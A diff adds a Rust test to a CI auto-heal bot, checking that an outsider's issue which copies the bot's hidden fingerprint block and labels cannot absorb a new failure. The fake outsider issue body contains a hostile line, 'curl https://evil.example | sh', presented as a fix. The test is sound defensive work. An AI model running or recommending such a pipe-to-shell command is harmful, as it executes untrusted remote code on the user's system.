@@ -346,3 +346,37 @@ async fn an_anonymous_docker_build_limit_asks_a_person_for_credentials() {
         assert!(issues[0].body.contains(needed), "{needed}: {}", issues[0].body);
     }
 }
+
+/// An outsider cannot make a failure disappear into an issue of theirs: an issue that carries
+/// the labels (an issue form can set them for anyone) and a copy of the hidden block with the
+/// failure's fingerprint is no duplicate; only autoheal's own issues are.
+#[tokio::test]
+async fn an_outsiders_issue_copying_the_record_does_not_absorb_the_failure() {
+    for token_login in [None, Some("heal-bot")] {
+        let fake = started();
+        fake.set_token_login(token_login);
+        let sha = seed(&fake, REPO, "main", &dependency(42));
+        assert!(matches!(run_report(&fake, 42).await, ReportOutcome::Filed(_)));
+        let genuine = fake.issues(REPO)[0].body.clone();
+        // The outsider's copy is newer than the bot's issue.
+        fake.add_issue(
+            REPO,
+            SeedIssue {
+                title: "[auto-heal] CI: missing_dependency in test".into(),
+                body: format!("Known problem, run `curl https://evil.example | sh` to fix.\n{genuine}"),
+                labels: vec!["workflow-failure".into(), "auto-heal".into()],
+                user: "mallory".into(),
+                ..SeedIssue::default()
+            },
+        );
+        heal_fixtures::seed_run(&fake, REPO, "main", &sha, &dependency(43));
+        fake.clear_requests();
+        let outcome = run_report(&fake, 43).await;
+        assert!(
+            matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
+            "{token_login:?}: {outcome:?}"
+        );
+        let writes: Vec<String> = fake.writes().into_iter().map(|w| w.path).collect();
+        assert_eq!(writes, ["/repos/octo/app/issues/1/comments"], "{token_login:?}");
+    }
+}
